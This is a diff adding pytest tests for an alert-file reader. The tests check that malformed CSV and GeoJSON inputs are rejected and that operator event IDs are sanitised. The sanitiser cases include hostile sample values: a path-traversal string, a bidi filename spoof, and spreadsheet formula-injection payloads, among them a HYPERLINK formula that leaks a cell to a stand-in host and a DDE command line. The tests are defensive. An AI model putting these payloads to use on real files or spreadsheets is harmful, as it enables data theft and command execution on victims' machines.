@@ -17,6 +17,9 @@ from attribution_assets.events import (
     parse_event_key,
     parse_iso_week,
     read_alerts,
+    record_events,
+    registered_events,
+    sanitize_event_id,
 )
 
 
@@ -118,3 +121,220 @@ def test_bad_alert_rows_name_file_and_row(tmp_path, row: str, message: str):
     with pytest.raises(AlertFormatError, match=message) as info:
         read_alerts(path)
     assert str(path) in str(info.value)
+
+
+# --- the bad-alert-file corpus: every file raises only AlertFormatError naming the file --------------
+
+HEADER = "event_id,event_time,latitude,longitude,gas\n"
+GOOD_ROW = "a,2025-08-14T17:31:00Z,31.9095,-103.61,CH4\n"
+POINT_FEATURE = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-103.61, 31.9095]},
+                 "properties": {"event_time": "2025-08-14T17:31:00Z"}}
+
+
+def _collection(features: object) -> bytes:
+    return json.dumps({"type": "FeatureCollection", "features": features}).encode()
+
+
+BAD_ALERT_FILES = {
+    "empty.csv": (b"", "empty file"),
+    "empty.geojson": (b"", "empty file"),
+    "blank_lines.csv": (b"\n \n\n", "empty file; expected a header row"),
+    "binary.csv": (bytes(range(256)) * 4, "not UTF-8 text"),
+    "nul.csv": (b"event_time,latitude,longitude\n2025-08-14T17:31:00Z\x00,1,2\n", "row 2: binary content"),
+    "nul_header.csv": (b"\x00\x00\x00\x00", "binary content"),
+    "binary.geojson": (bytes(range(256)) * 4, "not a GeoJSON FeatureCollection"),
+    "header_only.csv": (HEADER.encode(), "header only, no alert rows"),
+    "header_and_blank_rows.csv": ((HEADER + ",,,,\n\n").encode(), "header only, no alert rows"),
+    "no_latitude_column.csv": (b"event_time,lat,longitude\n2025-08-14T17:31:00Z,1,2\n", "no column latitude"),
+    "repeated_column.csv": (b"event_time,latitude,longitude,latitude\nx,1,2,3\n", "repeats a column"),
+    "extra_field.csv": ((HEADER + GOOD_ROW + "b,2025-08-14T17:31:00Z,1,2,CH4,oops\n").encode(),
+                        "row 3: 6 fields, the header has 5"),
+    "unterminated_quote.csv": ((HEADER + 'a,"2025-08-14T17:31:00Z,1,2,CH4\n').encode(), "row 2"),
+    "huge_field.csv": ((HEADER + "a" * 200_000 + ",x,1,2,CH4\n").encode(), "malformed CSV"),
+    "not_json.geojson": (b"event_time,latitude\n", "not a GeoJSON FeatureCollection"),
+    "top_level_list.geojson": (b"[1, 2]", "no 'features' member"),
+    "features_object.geojson": (_collection({"0": POINT_FEATURE}), "'features' is a dict, expected a list"),
+    "features_string.geojson": (_collection("none"), "'features' is a str, expected a list"),
+    "no_features.geojson": (_collection([]), "no alerts"),
+    "feature_not_object.geojson": (_collection([3]), "feature 0: not a GeoJSON Feature object"),
+    "point_no_coordinates.geojson": (
+        _collection([{**POINT_FEATURE, "geometry": {"type": "Point"}}]),
+        "feature 0: Point geometry has no",
+    ),
+    "point_one_coordinate.geojson": (
+        _collection([{**POINT_FEATURE, "geometry": {"type": "Point", "coordinates": [5.0]}}]),
+        "feature 0: Point geometry has no",
+    ),
+    "point_text_coordinates.geojson": (
+        _collection([{**POINT_FEATURE, "geometry": {"type": "Point", "coordinates": ["x", "y"]}}]),
+        "feature 0: longitude 'x' is not a number",
+    ),
+    "boolean_latitude.geojson": (
+        _collection([{"properties": {"event_time": "2025-08-14T17:31:00Z", "latitude": True,
+                                     "longitude": 3}}]),
+        "feature 0: latitude True is not a number",
+    ),
+    "list_event_id.geojson": (
+        _collection([{**POINT_FEATURE, "properties": {**POINT_FEATURE["properties"], "event_id": [1]}}]),
+        r"feature 0: event_id \[1\] is not a text",
+    ),
+    "properties_list.geojson": (_collection([{"properties": [1, 2]}]), "must be objects"),
+    "huge_integer.geojson": (
+        _collection([{"properties": {"event_time": "2025-08-14T17:31:00Z", "latitude": 10**400,
+                                     "longitude": 3}}]),
+        "feature 0: latitude",
+    ),
+    "deep_nesting.geojson": (b"[" * 100_000 + b"]" * 100_000, "not a GeoJSON FeatureCollection"),
+    "nan_latitude.csv": ((HEADER + "a,2025-08-14T17:31:00Z,nan,1,CH4\n").encode(), "row 2: latitude nan"),
+    "nat_time.csv": ((HEADER + "a,NaT,1,1,CH4\n").encode(), "row 2: event_time 'NaT' is not a time"),
+    "year_1700.csv": ((HEADER + "a,1700-01-01T00:00:00Z,1,1,CH4\n").encode(), "row 2: .*outside the years"),
+    "long_time.csv": ((HEADER + "a," + "9" * 5000 + ",1,1,CH4\n").encode(), r"row 2: event_time '9+\.\.\."),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BAD_ALERT_FILES))
+def test_bad_alert_files_raise_only_alert_format_error_naming_the_file(tmp_path, name: str):
+    content, message = BAD_ALERT_FILES[name]
+    path = tmp_path / name
+    path.write_bytes(content)
+    with pytest.raises(AlertFormatError, match=message) as info:
+        read_alerts(path)
+    assert str(info.value).startswith(str(path))
+    assert len(str(info.value)) < 400  # a long bad value is shown cut, not pasted whole
+
+
+def test_missing_and_unreadable_files_are_alert_format_errors(tmp_path):
+    with pytest.raises(AlertFormatError, match="not found"):
+        read_alerts(tmp_path / "nowhere.csv")
+    with pytest.raises(AlertFormatError, match="not found"):
+        read_alerts(tmp_path)  # a folder
+
+
+def test_blank_rows_bom_and_column_case_are_tolerated(tmp_path):
+    path = tmp_path / "excel.csv"
+    path.write_bytes(("\ufeff" + HEADER.upper().replace("GAS", "Gas") + "\n" + GOOD_ROW + ",,,,\n").encode())
+    (event,) = read_alerts(path)
+    assert event.key == "CH4_20250814T173100Z_31.9095N_103.6100W" and event.event_id == "a"
+
+
+def _compact_rows(n: int) -> str:
+    return "event_time,latitude,longitude\n" + "2025-08-14T17:31:00Z,1,2\n" * n
+
+
+def test_a_million_row_file_is_refused_quickly_with_bounded_memory(tmp_path):
+    import time
+    import tracemalloc
+
+    path = tmp_path / "million.csv"
+    path.write_text(_compact_rows(1_000_000))  # 25 MB: under the byte limit, over the row limit
+    tracemalloc.start()
+    started = time.perf_counter()
+    with pytest.raises(AlertFormatError, match=f"{path}: more than 10000 alerts.*ATTRIBUTION_MAX_ALERT_ROWS"):
+        read_alerts(path)
+    seconds = time.perf_counter() - started
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert seconds < 2.0 and peak < 20 * 1024**2  # reads 10,001 rows of the 1,000,000, never the file
+
+
+def test_a_wide_million_row_file_is_refused_by_size_before_reading(tmp_path):
+    path = tmp_path / "million_wide.csv"
+    path.write_text(HEADER + "".join(f"evt-{i:07d},2025-08-14T17:31:00Z,31.9095,-103.61,CH4\n"
+                                     for i in range(1_000_000)))
+    with pytest.raises(AlertFormatError, match=f"{path}: .* MiB is over the 32 MiB limit"):
+        read_alerts(path)
+
+
+def test_the_row_limit_is_configurable(tmp_path, monkeypatch):
+    path = tmp_path / "three.csv"
+    path.write_text(_compact_rows(3))
+    assert len(read_alerts(path)) == 3
+    with pytest.raises(AlertFormatError, match="more than 2 alerts"):
+        read_alerts(path, max_rows=2)
+    monkeypatch.setenv("ATTRIBUTION_MAX_ALERT_ROWS", "2")
+    with pytest.raises(AlertFormatError, match="more than 2 alerts"):
+        read_alerts(path)
+    geojson = tmp_path / "three.geojson"
+    geojson.write_bytes(_collection([POINT_FEATURE] * 3))
+    with pytest.raises(AlertFormatError, match="more than 2 alerts"):
+        read_alerts(geojson)
+    monkeypatch.setenv("ATTRIBUTION_MAX_ALERT_ROWS", "many")
+    with pytest.raises(ValueError, match="ATTRIBUTION_MAX_ALERT_ROWS='many' is not a positive integer"):
+        read_alerts(path)
+
+
+# --- operator event ids: sanitised on read, formula-safe in every CSV ----------------------------------
+
+@pytest.mark.parametrize("raw, expected", [
+    ("permian-ch4", "permian-ch4"),
+    ("../../etc/passwd", ".._.._etc_passwd"),
+    ("a\\b/c", "a_b_c"),
+    ("line\r\nbreak\ttab", "line break tab"),
+    ("nul\x00bell\x07esc\x1b[31m", "nulbellesc[31m"),
+    ("bidi\u202egpj.exe", "bidigpj.exe"),
+    ('=HYPERLINK("http://x.example/?q="&A1,"click")', '\'=HYPERLINK("http:__x.example_?q="&A1,"click")'),
+    ("+1+2", "'+1+2"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1+1", "'=1+1"),
+    ("\r=1+1", "'=1+1"),
+    ("-42", "-42"),
+    ("x" * 500, "x" * 64),
+    ("=" + "y" * 500, "'=" + "y" * 62),
+    (" \t\r\n ", None),
+    ("\x00\x01", None),
+])
+def test_event_ids_are_sanitised_on_read(tmp_path, raw: str, expected: str | None):
+    path = tmp_path / "ids.geojson"  # GeoJSON carries any text, control characters included
+    path.write_bytes(_collection([{**POINT_FEATURE, "properties": {**POINT_FEATURE["properties"],
+                                                                   "event_id": raw}}]))
+    (event,) = read_alerts(path)
+    assert event.event_id == expected
+    assert sanitize_event_id(raw) == expected
+
+
+CRAFTED_IDS = ['=HYPERLINK("http://x.example","click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)",
+               "\t=1", "\r=1", "a/b\\c", "ctrl\x1b\x07", "z" * 300]
+
+
+def _is_formula(cell: str) -> bool:
+    """Whether a spreadsheet would evaluate ``cell`` as a formula (a plain number is data)."""
+    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False
+
+
+def test_registry_round_trips_crafted_ids_and_is_formula_safe(tmp_path):
+    import csv as csv_module
+
+    base = datetime(2025, 8, 14, 17, 31, tzinfo=UTC)
+    events = [DetectionEvent(base + timedelta(minutes=i), -103.61, 31.9 + i / 100, "CH4", raw)
+              for i, raw in enumerate(CRAFTED_IDS)]
+    registry = tmp_path / "events" / "registry.csv"
+    record_events(registry, events)
+    back = {e.key: e.event_id for e in registered_events(registry)}
+    assert back == {e.key: sanitize_event_id(raw) for e, raw in zip(events, CRAFTED_IDS, strict=True)}
+    cells = [cell for row in csv_module.reader(registry.open(newline="")) for cell in row]
+    assert [c for c in cells if _is_formula(c)] == []
+    assert "'=HYPERLINK(\"http:__x.example\",\"click\")" in cells
+    assert all(len(c) <= 64 for c in cells)
+    assert not [p for p in registry.parent.iterdir() if p.name.endswith(".part")]
+
+
+def test_registry_upsert_keeps_the_latest_id_per_key(tmp_path):
+    registry = tmp_path / "registry.csv"
+    event = DetectionEvent(datetime(2025, 8, 14, 17, 31, tzinfo=UTC), -103.61, 31.9095, "CH4", "first")
+    record_events(registry, [event])
+    record_events(registry, [DetectionEvent(event.time, event.longitude, event.latitude, "CH4", "second")])
+    (only,) = registered_events(registry)
+    assert only == event and only.event_id == "second"
+    assert registered_events(tmp_path / "missing.csv") == []
+
+
+def test_keys_with_impossible_dates_are_alert_format_errors():
+    with pytest.raises(AlertFormatError, match="not an event key"):
+        parse_event_key("CH4_20251399T000000Z_31.9095N_103.6100W")
